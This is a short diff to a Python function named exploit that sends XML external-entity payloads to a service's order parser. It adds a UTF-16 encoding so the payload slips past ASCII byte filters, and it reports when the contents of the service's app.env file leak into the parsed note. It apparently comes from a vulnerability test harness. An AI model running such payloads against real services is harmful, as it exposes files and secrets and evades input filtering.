@@ -34,11 +34,11 @@ def exploit(code, vary):
             f'<!DOCTYPE order\n[<!ENTITY y SYSTEM "{address}"><!ENTITY x "&y;">]>' + order("&x;"),
         )
         for attack in attacks:
-            for body in (attack.encode(), attack.encode("utf-16")):
+            for encoding, text in (("utf-8", "UTF-8"), ("utf-16", "UTF-16, so a search for bytes of ASCII does not find it")):
                 try:
-                    note = code.read_order(body, 1).note
+                    note = code.read_order(attack.encode(encoding), 1).note
                 except Exception:
                     continue  # Refused; the next form may be not.
                 if secret in note:
-                    return {"sent": attack, "got": f'the note "{note}"'}
+                    return {"sent": f"{attack} (encoded in {text})", "got": f'the note "{note}": the content of the service\'s file app.env'}
     return False
